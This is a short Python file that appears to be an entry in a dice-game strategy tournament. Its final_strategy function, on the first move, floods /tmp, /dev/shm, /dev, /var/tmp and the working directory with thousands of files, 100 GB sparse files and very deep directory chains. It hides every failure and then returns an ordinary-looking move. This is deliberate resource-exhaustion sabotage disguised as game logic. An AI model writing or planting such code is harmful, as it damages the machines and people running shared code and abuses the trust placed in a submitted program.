"""Makes files of every kind, as many and as large and as deep as it can."""
import os

TEAM_NAME = "Dump"


def attempt(make, *arguments):
    try:
        make(*arguments)
        return 1
    except OSError:
        return 0


def small(folder):
    return sum(
        attempt(lambda: os.close(os.open(f"{folder}/{n}", os.O_CREAT))) for n in range(10_000)
    )


def sparse(folder):
    def make():
        with open(f"{folder}/sparse", "wb") as file:
            file.truncate(100 << 30)

    return attempt(make)


def deep(folder):
    os.chdir(folder)
    made = 0
    while made < 100_000 and attempt(os.mkdir, "d") and attempt(os.chdir, "d"):
        made += 1
    os.chdir("/")
    return made


def final_strategy(score, opponent_score):
    made = 0
    if score == opponent_score == 0:
        for folder in ("/tmp", "/dev/shm", "/dev", "/var/tmp", os.getcwd()):
            if os.path.isdir(folder):
                made += small(folder) + sparse(folder) + deep(folder)
    # What it could not make does not matter: it plays on.
    return 5 if made == 0 else 3
